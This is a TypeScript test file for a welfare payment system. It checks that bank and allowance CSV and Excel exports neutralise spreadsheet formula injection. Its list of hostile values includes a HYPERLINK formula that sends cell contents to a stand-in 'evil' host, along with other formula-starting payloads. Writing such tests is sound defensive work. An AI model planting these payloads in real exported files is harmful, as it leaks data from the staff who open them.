import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { bankCsv, bankWorkbook, type BankLine } from '../../src/assistance/bank-export.js';
import { allowanceCsv } from '../../src/monitoring/grant-payments.js';
import { csvDocument, csvField, csvRecords } from '../../src/kernel/index.js';

/** Values from SECURITY-TESTS IV-04. */
const HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '\0=1'];

/** What a spreadsheet would see: the records of the product's own RFC 4180 reader (the department-import parser). */
const parseCsv = (text: string): string[][] => csvRecords(text).map((r) => r.fields);

const line = (holderName: string, bankName = '上海银行'): BankLine => ({ caseId: 7, holderName, bankName, accountNo: '6222020000000000001', amountFen: 150_000, programme: 'dibao', month: '2025-01' });

describe('CSV files staff open in a spreadsheet', () => {
  it('turns a cell that starts like a formula into text, and quotes by RFC 4180', () => {
    for (const value of HOSTILE) {
      const [[cell]] = parseCsv(csvDocument([[value]]).slice(1));
      expect(cell).toBe(`'${value}`);
    }
    expect(csvField('张三,"李四"\n王五')).toBe('"张三,""李四""\n王五"');
    expect(csvField(-12)).toBe('-12');
    expect(csvField('普通文本')).toBe('普通文本');
  });

  it('neutralises holder and bank names in the bank payment file (CSV)', () => {
    const rows = parseCsv(
      bankCsv(
        HOSTILE.map((name) => line(name, name)),
        150_000 * HOSTILE.length,
      ).slice(1),
    );
    const body = rows.slice(1, -1);
    expect(body.map((r) => r[2])).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(body.map((r) => r[3])).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(body[0][5]).toBe('1500.00');
    expect(rows.at(-1)?.[0]).toBe('合计');
  });

  it('writes names as text cells in the Excel bank file, never as formulas', async () => {
    const buffer = await bankWorkbook(
      HOSTILE.map((name) => line(name)),
      150_000 * HOSTILE.length,
      '标题',
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('代发明细')!;
    HOSTILE.forEach((value, i) => {
      const cell = sheet.getRow(3 + i).getCell(3);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML turns a lone CR into LF and cannot hold NUL; the text is otherwise kept as it was.
      expect(cell.value).toBe(value.replace('\r', '\n').replace('\0', ''));
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    });
  });

  it('uses the same writer for the allowance payment file', () => {
    const text = allowanceCsv([{ personId: 1, programme: 'elderly_allowance', month: '2025-01', amountFen: 7_500, divisionCode: '310115004000' }]);
    expect(text.startsWith('\ufeff序号,')).toBe(true);
    expect(parseCsv(text.slice(1))[1]).toEqual(['1', '1', expect.any(String), '2025-01', '75.00', '310115004000', expect.any(String)]);
  });
});
